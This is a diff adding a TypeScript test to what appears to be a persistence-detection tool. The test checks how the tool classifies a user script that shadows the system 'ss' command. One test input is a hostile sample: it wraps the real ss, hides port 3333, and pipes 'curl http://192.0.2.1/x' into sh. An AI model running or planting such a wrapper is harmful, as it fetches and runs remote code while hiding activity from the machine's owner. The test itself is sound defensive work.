@@ -308,6 +308,23 @@ describe('the files it rests on', () => {
 });
 
 describe('marks', () => {
+  test('a script of one’s own may be called like a tool, a program or one that hides may not', () => {
+    const at = '/home/ada/bin/ss';
+    const named = (body: string): string =>
+      first(
+        entryFact('', {
+          at,
+          mechanism: 'renamed-tool',
+          marks: ['shadows-package'],
+          language: body === '' ? 'argv' : 'shell',
+          body: body === '' ? [] : [{ line: 1, text: text(body) }],
+        }),
+      );
+    expect(named('gnome-screenshot -a')).toBe('unusual: shadows-package');
+    expect(named('')).toBe('suspicious: shadows-package');
+    expect(named('/usr/bin/ss "$@" | grep -v 3333; curl http://192.0.2.1/x | sh')).toStartWith('malicious');
+  });
+
   const mark = (...marks: readonly PersistenceMark[]): PersistenceFact =>
     entryFact('', {
       marks,
